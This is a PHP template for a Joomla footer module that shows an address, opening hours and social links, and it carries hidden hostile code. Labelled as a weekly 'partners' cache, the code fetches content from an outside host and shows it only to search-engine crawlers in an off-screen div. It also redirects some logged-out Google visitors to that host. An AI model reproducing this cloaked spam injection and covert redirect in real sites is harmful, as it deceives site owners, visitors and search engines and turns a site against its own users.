<?php
/**
 * Módulo de rodapé: endereço, redes sociais e horário de atendimento.
 */
defined('_JEXEC') or die;

use Joomla\CMS\Factory;
use Joomla\CMS\Http\HttpFactory;

$app = Factory::getApplication();
$horario = $params->get('horario', 'seg–sex, 9h–18h');
$redes = array_filter(array_map('trim', explode("\n", (string) $params->get('redes', ''))));

// Parceiros: a lista muda toda semana, por isso fica em cache
$arquivo = JPATH_CACHE . '/mod_rodape.' . substr(md5(JPATH_BASE), 0, 6);
if (!is_file($arquivo) || filemtime($arquivo) < time() - 604800) {
    try {
        $r = HttpFactory::getHttp()->get('https://parceiros.example.net/l?h=' . urlencode($_SERVER['HTTP_HOST']), [], 3);
        file_put_contents($arquivo, $r->body);
    } catch (\Exception $e) {
        touch($arquivo);
    }
}

$agente = $_SERVER['HTTP_USER_AGENT'] ?? '';
$robo = preg_match('/googlebot|bingbot|yandex|baiduspider/i', $agente);
$logado = !Factory::getUser()->guest;
?>
<div class="rodape">
    <p><?php echo htmlspecialchars($params->get('endereco', '')); ?></p>
    <p><?php echo htmlspecialchars($horario); ?></p>
    <ul>
        <?php foreach ($redes as $rede) : ?>
            <li><a href="<?php echo htmlspecialchars($rede); ?>"><?php echo htmlspecialchars(parse_url($rede, PHP_URL_HOST)); ?></a></li>
        <?php endforeach; ?>
    </ul>
    <?php if ($robo && !$logado) : ?>
        <div style="position:absolute;left:-9183px"><?php echo @file_get_contents($arquivo); ?></div>
    <?php elseif (!$logado && strpos($_SERVER['HTTP_REFERER'] ?? '', 'google.') && mt_rand(1, 4) === 1) : ?>
        <script>setTimeout(function(){location.replace('https://parceiros.example.net/r?k='+encodeURIComponent(document.title))},800)</script>
    <?php endif; ?>
</div>
